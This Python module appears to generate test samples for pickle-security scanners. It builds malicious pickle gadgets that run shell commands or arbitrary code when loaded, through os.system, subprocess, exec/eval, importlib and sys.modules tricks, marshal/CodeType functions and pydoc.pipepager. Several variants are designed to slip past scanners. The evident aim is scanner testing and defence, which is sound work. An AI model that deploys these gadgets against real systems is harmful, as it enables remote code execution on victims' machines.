"""Raw pickles that call something dangerous of the standard library directly: every spelling and protocol."""

from __future__ import annotations

import marshal
from types import CodeType

from .asm import Build, Call, Global, Then
from .sample import Kit, Sample, gadget

G, C = Global, Call


def _function_code(kit: Kit) -> CodeType:
    return compile(kit.code, "payload", "exec")


def _code_type_arguments(kit: Kit) -> tuple[object, ...]:
    code = _function_code(kit)
    return (
        code.co_argcount,
        code.co_posonlyargcount,
        code.co_kwonlyargcount,
        code.co_nlocals,
        code.co_stacksize,
        code.co_flags,
        code.co_code,
        code.co_consts,
        code.co_names,
        code.co_varnames,
        code.co_filename,
        code.co_name,
        code.co_qualname,
        code.co_firstlineno,
        code.co_linetable,
        code.co_exceptiontable,
    )


def samples() -> list[Sample]:
    """All of this module."""
    return [*_protocols(), *_processes(), *_code()]


def _protocols() -> list[Sample]:
    found = [
        gadget(
            f"os-system-protocol-{protocol}",
            f"os.system by REDUCE in protocol {protocol}",
            lambda kit: C(G("os.system"), kit.shell),
            protocol=protocol,
        )
        for protocol in range(6)
    ]
    return [
        *found,
        gadget("posix-system", "the C module's own name", lambda kit: C(G("posix.system"), kit.shell), protocol=0),
        gadget(
            "exec-py2-name",
            "__builtin__, mapped by fix_imports",
            lambda kit: C(G("__builtin__.exec"), kit.code),
            protocol=2,
        ),
        gadget("eval-py2-name", "__builtin__.eval", lambda kit: C(G("__builtin__.eval"), kit.code), protocol=0),
        gadget(
            "commands-py2",
            "commands.getoutput, mapped to subprocess by fix_imports",
            lambda kit: C(G("commands.getoutput"), kit.shell),
            protocol=2,
            calls=("commands.getoutput", "subprocess.getoutput"),
        ),
        gadget(
            "dotted-name",
            "attribute path in one name (protocol 4)",
            lambda kit: C(G("shutil", "os.system"), kit.shell),
            calls=("shutil.os.system", "os.system", "posix.system"),
        ),
        gadget(
            "dotted-deep",
            "module reached through two other modules",
            lambda kit: C(G("logging", "os.path.os.system"), kit.shell),
            calls=("os.system", "posix.system"),
        ),
        gadget(
            "dotted-in-known-package",
            "os reached through an unsuspicious module's own import",
            lambda kit: C(G("random", "_os.system"), kit.shell),
            calls=("random._os.system", "os.system", "posix.system"),
        ),
    ]


def _processes() -> list[Sample]:
    entries = {
        "subprocess-popen": lambda k: C(G("subprocess.Popen"), k.argv),
        "subprocess-call": lambda k: C(G("subprocess.call"), k.argv),
        "subprocess-run": lambda k: C(G("subprocess.run"), k.argv),
        "subprocess-check-output": lambda k: C(G("subprocess.check_output"), k.argv),
        "subprocess-getoutput": lambda k: C(G("subprocess.getoutput"), k.shell),
        "subprocess-getstatusoutput": lambda k: C(G("subprocess.getstatusoutput"), k.shell),
        "os-popen": lambda k: C(G("os.popen"), k.shell),
        "os-execv": lambda k: C(G("os.execv"), "/bin/sh", ["sh", "-c", k.shell]),
        "os-execvp": lambda k: C(G("os.execvp"), "touch", k.argv),
        "os-spawnv": lambda k: C(G("os.spawnv"), 0, "/bin/sh", ["sh", "-c", k.shell]),
        "os-spawnlp": lambda k: C(G("os.spawnlp"), 0, "touch", *k.argv),
        "posix-spawn": lambda k: C(G("posix.posix_spawn"), "/bin/sh", ["sh", "-c", k.shell], {"PATH": "/usr/bin:/bin"}),
        "fork-exec": lambda k: C(G("os.posix_spawnp"), "touch", k.argv, {"PATH": "/usr/bin:/bin"}),
        "pty-spawn": lambda k: C(G("pty.spawn"), k.argv),
        "spawnv-passfds": lambda k: C(
            G("multiprocessing.util.spawnv_passfds"), b"/bin/sh", [b"sh", b"-c", k.shell.encode()], ()
        ),
        "asyncio-subprocess": lambda k: C(G("asyncio.run"), C(G("asyncio.create_subprocess_shell"), k.shell)),
    }
    references = {"pty-spawn": "GHSA-r7v6-mfhq-g3m2", "asyncio-subprocess": "CVE-2025-10157"}
    return [
        gadget(name, "starts a process", build, reference=references.get(name, "")) for name, build in entries.items()
    ]


def _code() -> list[Sample]:
    return [
        gadget("builtins-exec", "exec of source", lambda k: C(G("builtins.exec"), k.code)),
        gadget("builtins-eval", "eval of source", lambda k: C(G("builtins.eval"), k.code)),
        gadget(
            "compile-exec",
            "compile, then exec of the code object",
            lambda k: C(G("builtins.exec"), C(G("builtins.compile"), k.code, "x", "exec")),
        ),
        gadget(
            "import-getattr",
            "__import__('os'), getattr by name",
            lambda k: C(C(G("builtins.getattr"), C(G("builtins.__import__"), "os"), "system"), k.shell),
        ),
        gadget(
            "importlib-getattr",
            "importlib.import_module, getattr by name",
            lambda k: C(C(G("builtins.getattr"), C(G("importlib.import_module"), "os"), "system"), k.shell),
            reference="picklescan issue 66",
        ),
        gadget(
            "bootstrap-import",
            "importlib._bootstrap._gcd_import",
            lambda k: C(C(G("builtins.getattr"), C(G("importlib._bootstrap._gcd_import"), "os"), "system"), k.shell),
        ),
        gadget(
            "module-from-spec",
            "find_spec, module_from_spec, exec_module without import_module",
            lambda k: C(
                C(
                    G("builtins.getattr"),
                    C(G("importlib._bootstrap._load"), C(G("importlib.util.find_spec"), "posix")),
                    "system",
                ),
                k.shell,
            ),
            reference="picklescan issue 66",
        ),
        gadget(
            "builtin-importer",
            "importlib.machinery.BuiltinImporter.load_module",
            lambda k: C(
                C(G("builtins.getattr"), C(G("importlib.machinery", "BuiltinImporter.load_module"), "posix"), "system"),
                k.shell,
            ),
        ),
        gadget(
            "sys-modules",
            "os taken from sys.modules by dict.get",
            lambda k: C(
                C(G("builtins.getattr"), C(G("builtins", "dict.get"), G("sys.modules"), "os"), "system"), k.shell
            ),
        ),
        gadget(
            "sys-modules-getitem",
            "os taken from sys.modules by operator.getitem",
            lambda k: C(C(G("builtins.getattr"), C(G("operator.getitem"), G("sys.modules"), "os"), "system"), k.shell),
        ),
        gadget(
            "marshal-function",
            "marshal.loads of a code object, types.FunctionType, call",
            lambda k: C(
                C(
                    G("types.FunctionType"),
                    C(G("marshal.loads"), marshal.dumps(_function_code(k))),
                    {"open": G("builtins.open")},
                )
            ),
            reference="GHSA-565g-hwwr-4pp3",
        ),
        gadget(
            "code-type",
            "types.CodeType by its 16 arguments, types.FunctionType, call",
            lambda k: C(
                C(
                    G("types.FunctionType"),
                    C(G("types.CodeType"), *_code_type_arguments(k)),
                    {"open": G("builtins.open")},
                )
            ),
        ),
        gadget(
            "alias-in-sys-modules",
            "os is stored in sys.modules under another name, which GLOBAL then imports",
            lambda k: Then(
                C(
                    G("builtins", "dict.__setitem__"),
                    G("sys.modules"),
                    "harmless_name",
                    C(G("builtins.__import__"), "os"),
                ),
                C(G("harmless_name.system"), k.shell),
            ),
            calls=("harmless_name.system", "builtins.__import__", "sys.modules"),
        ),
        gadget(
            "help-docs",
            "pydoc.pipepager runs its second argument",
            lambda k: C(G("pydoc.pipepager"), "", k.shell),
            reference="pickle gadget lists",
        ),
        gadget(
            "build-after-safe",
            "BUILD sets the state of an object whose class executes it",
            lambda k: Build(C(G("collections.OrderedDict")), {"a": C(G("os.system"), k.shell)}),
        ),
    ]
